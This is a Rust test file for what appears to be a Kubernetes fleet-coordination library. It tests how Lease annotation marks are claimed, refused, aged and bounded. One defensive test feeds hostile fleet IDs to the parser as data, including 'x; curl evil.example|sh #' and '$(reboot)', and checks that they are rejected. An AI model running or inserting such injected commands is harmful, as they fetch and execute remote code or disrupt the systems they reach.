use proptest::prelude::*;

use super::*;

/// `tdset sqs:shop,web`: controllers, each with its namespaces.
fn claim(text: &str) -> Claim {
    let one = |word: &str| {
        let (name, namespaces) = word.split_once(':').unwrap_or((word, ""));
        let namespaces = namespaces.split(',').filter(|name| !name.is_empty());
        (name.to_owned(), namespaces.map(str::to_owned).collect())
    };
    text.split_whitespace().map(one).collect()
}

/// What home shows of who lives.
fn living(identities: &[&str]) -> watch::Receiver<Arc<Living>> {
    let identities = identities.iter().map(ToString::to_string).collect();
    watch::channel(Arc::new(Living::these(identities))).1
}

pub(super) fn own(id: &str, former: &[&str], claims: &str) -> Own {
    Own {
        id: id.parse().unwrap(),
        former: former.iter().map(|id| id.parse().unwrap()).collect(),
        installation: "prod".to_owned(),
        namespace: "leasehold-system".to_owned(),
        by: format!("{id}-0"),
        claim: claim(claims),
        living: living(&[&format!("{id}-0")]),
    }
}

/// `a tdset 44, b sqs 10`: the fleets that have a mark, what they claim, and for how many seconds that has
/// been seen.
fn scene(text: &str) -> (Marks, Sightings, Moment) {
    let now = Moment::from_origin(Duration::from_secs(10_000));
    let (mut marks, mut sightings) = (Marks::new(), Sightings::default());
    let mut rows: Vec<(String, String, u64)> = text
        .split(", ")
        .filter(|row| !row.is_empty())
        .map(|row| {
            let mut words: Vec<&str> = row.split(' ').collect();
            let age = words.pop().unwrap().parse().unwrap();
            let fleet = words.remove(0);
            let text = match words[..] {
                ["?"] => "?".to_owned(),
                _ => own(fleet, &[], "").text(7, claim(&words.join(" "))),
            };
            (fleet.to_owned(), text, age)
        })
        .collect();
    rows.sort_by_key(|(.., age)| std::cmp::Reverse(*age));
    for (fleet, text, age) in rows {
        marks.insert(fleet, text);
        sightings.observe(&own("a", &[], ""), &marks, now - Duration::from_secs(age));
    }
    (marks, sightings, now)
}

/// In short: `stands`, `refused by b: tdset`, `full`, or `writes a=tdset without b`.
fn decided(own: &Own, (marks, sightings, now): &(Marks, Sightings, Moment)) -> String {
    match decide(own, marks, sightings, *now) {
        Decision::Stands => "stands".to_owned(),
        Decision::Full => "full".to_owned(),
        Decision::Refused(Refusal { other, reason }) => {
            let both = reason.split_once(" with ").unwrap().1.split_once(": ").unwrap().0;
            format!("refused by {other}: {both}")
        }
        Decision::Write(Change { put: (fleet, text), remove }) => {
            let claim = Mark::read(&text).unwrap().controllers;
            let claim = serde_json::to_string(&claim).unwrap().replace('"', "");
            let without = if remove.is_empty() { "" } else { " without " };
            format!("writes {fleet}={claim}{without}{}", remove.join(" "))
        }
    }
}

#[test]
fn what_follows_from_the_marks() {
    let first = own("a", &[], "tdset");
    for (marks, expect) in [
        // Ours.
        ("", "writes a={tdset:[]}"),
        ("a tdset 0", "stands"),
        ("a tdset 44", "stands"),
        ("a tdset 45", "writes a={tdset:[]}"),
        ("a tdset sqs 0", "stands"),
        ("a tdset sqs 45", "writes a={tdset:[]}"),
        ("a sqs 0", "writes a={sqs:[],tdset:[]}"),
        ("a tdset:shop 0", "writes a={tdset:[]}"),
        ("a ? 0", "writes a={tdset:[]}"),
        ("a * 0", "stands"),
        // Another's.
        ("b tdset 0", "refused by b: tdset"),
        ("b tdset 179", "refused by b: tdset"),
        ("b tdset 180", "writes a={tdset:[]} without b"),
        ("b tdset:shop 0", "refused by b: tdset"),
        ("b sqs 0", "writes a={tdset:[]}"),
        ("b sqs 180", "writes a={tdset:[]} without b"),
        ("b ? 0", "refused by b: tdset"),
        ("b ? 180", "writes a={tdset:[]} without b"),
        ("b * 0", "refused by b: tdset"),
        // Both.
        ("a tdset 0, b sqs 0", "stands"),
        ("a tdset 0, b sqs 180", "writes a={tdset:[]} without b"),
        ("a tdset 0, b tdset 0", "refused by b: tdset"),
        ("a tdset 180, b tdset 180", "writes a={tdset:[]} without b"),
        ("b sqs 0, c tdset 0", "refused by c: tdset"),
    ] {
        assert_eq!(decided(&first, &scene(marks)), expect, "{marks}");
    }
    for (claims, marks, expect) in [
        ("tdset:shop", "b tdset:web 0", "writes a={tdset:[shop]}"),
        ("tdset:shop,web", "b tdset:web 0", "refused by b: tdset"),
        ("tdset:shop", "b tdset 0", "refused by b: tdset"),
        ("tdset:shop", "a tdset:web 0", "writes a={tdset:[shop,web]}"),
        ("tdset:shop", "a tdset:shop,web 0", "stands"),
        ("a b c d e f g", "b a b c d e f 0", "refused by b: a, b, c, d, e and 1 more controllers"),
        ("*", "b sqs 0", "refused by b: *"),
        // Who selects nothing works on what the other selects.
        ("tdset[x=y]", "b tdset 0", "refused by b: tdset[x=y]"),
        ("tdset", "b tdset-2[x=y] tdset[x=y] 0", "refused by b: tdset"),
        ("tdset", "b tdset-2[x=y] 0", "writes a={tdset:[]}"),
        ("tdset[x=y]", "b tdset[x=y] 0", "refused by b: tdset[x=y]"),
        ("tdset[x=y]", "b tdset[x=z] 0", "writes a={tdset[x=y]:[]}"),
        ("tdset:shop", "b tdset[x=y]:web 0", "writes a={tdset:[shop]}"),
        ("tdset[x=y]:shop", "b tdset:shop,web 0", "refused by b: tdset[x=y]"),
    ] {
        assert_eq!(decided(&own("a", &[], claims), &scene(marks)), expect, "{claims}: {marks}");
    }
}

#[test]
fn a_fleet_whose_home_is_new_replaces_its_former_mark() {
    let renamed = own("b", &["a"], "tdset");
    assert_eq!(decided(&renamed, &scene("a tdset 0")), "writes b={tdset:[]} without a");
    assert_eq!(decided(&renamed, &scene("b tdset 0")), "stands");
    // Another fleet keeps it away even so.
    assert_eq!(decided(&renamed, &scene("a tdset 0, c tdset 0")), "refused by c: tdset");
}

#[test]
fn former_ids_are_bounded_and_the_newest_are_kept() {
    let (sender, fleet) = watch::channel(None);
    let text = String::new;
    let (installation, namespace, by, claim) = (text(), text(), text(), Claim::default());
    let living = living(&[]);
    let mut marker = Marker { fleet, installation, namespace, by, claim, living };
    assert!(Own::of(&mut marker, None).is_none());
    let mut own = None;
    for number in 0..MAX_FORMER + 3 {
        sender.send_replace(Some(format!("f{number}").parse().unwrap()));
        own = Own::of(&mut marker, own.as_ref());
    }
    let own = own.unwrap();
    assert_eq!(own.former.len(), MAX_FORMER);
    assert!(own.is("f10") && own.is("f9") && own.is("f2") && !own.is("f1"));
}

#[test]
fn a_refusal_names_both_fleets_the_mark_and_the_command() {
    let (marks, sightings, now) = scene("f-2 tdset 0");
    let decision = decide(&own("f-1", &[], "tdset"), &marks, &sightings, now);
    let Decision::Refused(refusal) = decision else { panic!("{decision:?}") };
    assert_eq!(
        &*refusal.reason,
        "another fleet works there with tdset: f-2 (installation \"prod\", namespace \"leasehold-system\", \
         marked by \"f-2-0\"); this fleet is f-1 (installation \"prod\", namespace \"leasehold-system\"). Its \
         mark is in Lease kube-public/leasehold-fleets; fix: remove the cluster, or those controllers, from \
         one of the two; if the other fleet is gone, wait 180s or: kubectl --namespace kube-public annotate \
         lease leasehold-fleets fleet.leasehold.dev/f-2-"
    );
}

#[test]
fn the_next_writer_of_a_refusing_fleet_is_no_news_and_no_answer_changes_nothing() {
    let refusal = |other: &str, reason: &str| {
        Standing::Refused(Refusal { other: other.to_owned(), reason: reason.into() })
    };
    let mut standing = Standing::Unknown;
    for (found, expect) in [
        (refusal("b", "1"), refusal("b", "1")),
        (refusal("b", "2"), refusal("b", "1")),
        (Standing::Unknown, refusal("b", "1")),
        (refusal("c", "3"), refusal("c", "3")),
        (Standing::Unmarked("denied".into()), Standing::Unmarked("denied".into())),
        (refusal("c", "3"), refusal("c", "3")),
        (Standing::Marked, Standing::Marked),
        (Standing::Unknown, Standing::Marked),
    ] {
        standing.turn(found);
        assert_eq!(standing, expect);
    }
}

#[test]
fn marks_are_bounded_in_number_and_in_bytes() {
    let first = own("zz", &[], "tdset");
    let annotations = |count: usize| -> BTreeMap<String, String> {
        let others = (0..count).map(|number| format!("b{number:02}"));
        let marks =
            others.map(|id| (format!("{PREFIX}{id}"), own(&id, &[], "").text(0, claim("sqs"))));
        marks.chain([("other.example/key".to_owned(), "x".to_owned())]).collect()
    };
    for (count, ours, expect) in [
        (MAX_OTHERS - 1, false, "writes zz={tdset:[]}"),
        (MAX_OTHERS, false, "full"),
        (MAX_OTHERS + 5, false, "full"),
        (MAX_OTHERS + 5, true, "stands"),
    ] {
        let mut annotations = annotations(count);
        if ours {
            annotations.insert(format!("{PREFIX}zz"), first.text(0, claim("tdset")));
        }
        let marks = marks(&first, &annotations);
        assert_eq!(marks.len(), count.min(MAX_OTHERS) + usize::from(ours));
        let mut sightings = Sightings::default();
        sightings.observe(&first, &marks, Moment::default());
        let scene = (marks, sightings, Moment::default());
        assert_eq!(decided(&first, &scene), expect, "{count}");
    }
    let many: Vec<String> = (0..2000).map(|number| format!("controller-{number}")).collect();
    let many = own("a", &[], &many.join(" "));
    assert_eq!(decided(&many, &scene("")), "writes a={*:[]}");
    let long = format!("{{\"installation\":\"{}\"}}", "x".repeat(MAX_MARK_BYTES));
    assert!(Mark::read(&long).is_none());
}

fn claims() -> impl Strategy<Value = Claim> {
    let namespaces = proptest::collection::btree_set("[xyz]", 0..3);
    let names = "[abc*]|[ab]\\[[xy]\\]";
    proptest::collection::btree_map(names, namespaces, 0..4).prop_map(Claim::from_iter)
}

proptest! {
    #[test]
    fn meeting_is_mutual_and_a_union_covers_both(one in claims(), other in claims()) {
        prop_assert_eq!(one.meets(&other).is_some(), other.meets(&one).is_some());
        let both = one.with(&other);
        prop_assert!(both.covers(&one) && both.covers(&other));
        prop_assert_eq!(one.meets(&one).is_none(), one.is_empty());
    }

    /// Of two fleets that see the same and claim the same, at most one writes over what it sees.
    #[test]
    fn nobody_writes_beside_a_fresh_claim_that_meets_its_own(
        mine in claims(), theirs in claims(), age in 0..STALE_AFTER.as_secs(),
    ) {
        let own = Own { claim: mine.clone(), ..own("a", &[], "") };
        let marks: Marks = [("b".to_owned(), own.text(0, theirs.clone()))].into();
        let mut sightings = Sightings::default();
        sightings.observe(&own, &marks, Moment::default());
        let now = Moment::default() + Duration::from_secs(age);
        let refused = matches!(decide(&own, &marks, &sightings, now), Decision::Refused(_));
        prop_assert_eq!(refused, mine.meets(&theirs).is_some());
    }
}

/// A server may send any annotations, and people paste what the reason says.
#[test]
fn what_is_no_id_of_a_fleet_is_no_mark() {
    let ours = own("a", &[], "tdset");
    let long = "x".repeat(1 << 20);
    for id in ["x; curl evil.example|sh #", "$(reboot)", "a\u{1b}[2J", "a\nb", "../x", "", &long] {
        let annotations = BTreeMap::from([(format!("{PREFIX}{id}"), "?".to_owned())]);
        assert_eq!(marks(&ours, &annotations), Marks::new(), "{id:.40}");
    }
}

#[test]
fn no_number_of_marks_hides_one_that_meets_ours() {
    let ours = own("a", &[], "tdset");
    let mark = |fleet: &str, claims: &str| {
        (format!("{PREFIX}{fleet}"), own(fleet, &[], "").text(0, claim(claims)))
    };
    let others = (0..10 * MAX_OTHERS).map(|n| mark(&format!("b{n:03}"), "sqs"));
    let annotations: BTreeMap<_, _> = others.chain([mark("z", "tdset")]).collect();
    let (marks, now) = (marks(&ours, &annotations), Moment::default());
    assert_eq!(marks.len(), MAX_OTHERS);
    let mut sightings = Sightings::default();
    sightings.observe(&ours, &marks, now);
    assert_eq!(decided(&ours, &(marks, sightings, now)), "refused by z: tdset");
}

/// Two fleets of one id, each with a home of its own, that look in turns at the marks of one cluster.
#[test]
fn of_a_fleet_and_a_copy_of_its_home_the_copy_yields() {
    for (offset, replicas) in [(1, 1), (7, 1), (14, 3), (29, 2)] {
        let member = |name: &str, all: &[&str]| Own {
            by: name.to_owned(),
            living: living(all),
            ..own("a", &[], "tdset")
        };
        let firsts = ["m-1", "m-2", "m-3"].map(|name| member(name, &["m-1", "m-2", "m-3"]));
        // The snapshot shows members that have no Lease any more.
        let copy = member("n-1", &["n-1"]);
        let mut looking: Vec<_> = firsts.iter().take(replicas).chain([&copy]).collect();
        let mut seen = vec![Sightings::default(); looking.len()];
        let (mut marks, mut refused_at) = (Marks::new(), None);
        for second in 0..1_000 {
            let now = Moment::from_origin(Duration::from_secs(second));
            for (place, own) in looking.iter().enumerate() {
                let is_copy = place == replicas;
                let begins = if is_copy { 300 } else { 0 };
                let phase = if is_copy { offset } else { 10 * place as u64 };
                if second < begins || second % 30 != phase % 30 {
                    continue;
                }
                seen[place].observe(own, &marks, now);
                match decide(own, &marks, &seen[place], now) {
                    Decision::Stands => {}
                    Decision::Write(Change { put: (fleet, text), .. }) => {
                        marks.insert(fleet, text);
                    }
                    Decision::Refused(refusal) => {
                        assert!(is_copy, "{}", refusal.reason);
                        assert!(
                            refusal.reason.contains("a copy of this fleet"),
                            "{}",
                            refusal.reason
                        );
                        refused_at.get_or_insert(second);
                    }
                    Decision::Full => panic!("one mark"),
                }
            }
        }
        let refused_at = refused_at.expect("the copy yields");
        assert!((300..=480).contains(&refused_at), "{offset}: {refused_at}");
        // The first ends: the copy goes on.
        looking.drain(..replicas);
        let ended = Moment::from_origin(Duration::from_secs(1_000)) + STALE_AFTER;
        let decision = decide(&copy, &marks, &seen[replicas], ended);
        assert!(matches!(decision, Decision::Write(_)), "{decision:?}");
    }
}

/// As during an update: each of them renews the mark, and has ended when the new one looks again.
#[test]
fn members_that_wrote_and_ended_are_no_copy() {
    let lives = watch::Sender::new(Arc::new(Living::default()));
    let new = Own { by: "b-1".to_owned(), living: lives.subscribe(), ..own("a", &[], "tdset") };
    let mut sightings = Sightings::default();
    let mut now = Moment::default();
    let mut look = |writer: &str, alive: &[&str]| {
        now = now + Duration::from_secs(30);
        let alive = alive.iter().map(ToString::to_string).collect();
        lives.send_replace(Arc::new(Living::these(alive)));
        let of = Own { by: writer.to_owned(), ..new.clone() };
        let marks = Marks::from([("a".to_owned(), of.text(0, claim("tdset")))]);
        sightings.observe(&new, &marks, now);
        matches!(decide(&new, &marks, &sightings, now), Decision::Refused(_))
    };
    for (writer, alive) in
        [("a-1", &["a-1", "a-2", "a-3", "b-1"][..]), ("a-2", &["a-3", "b-1"]), ("a-3", &["b-1"])]
    {
        assert!(!look(writer, alive), "{writer}");
    }
    // These never lived.
    assert!(!look("n-1", &["b-1"]));
    assert!(look("n-2", &["b-1"]));
}

/// As after a restart of all, or while home shows nothing.
#[test]
fn who_knows_nothing_of_the_writer_renews_later_and_refuses_nothing() {
    let (marks, sightings, now) = scene("a tdset 45");
    let of = |living| Own { living, by: "m-9".to_owned(), ..own("a", &[], "tdset") };
    let unknown = of(watch::channel(Arc::default()).1);
    for (own, due) in [(of(living(&["m-9"])), 90), (unknown, 120), (of(living(&["a-0"])), 45)] {
        for (age, stands) in [(due - 1, true), (due, false)] {
            let now = now + Duration::from_secs(age) - Duration::from_secs(45);
            let decision = decide(&own, &marks, &sightings, now);
            assert_eq!(decision == Decision::Stands, stands, "{due} {age}: {decision:?}");
        }
    }
}
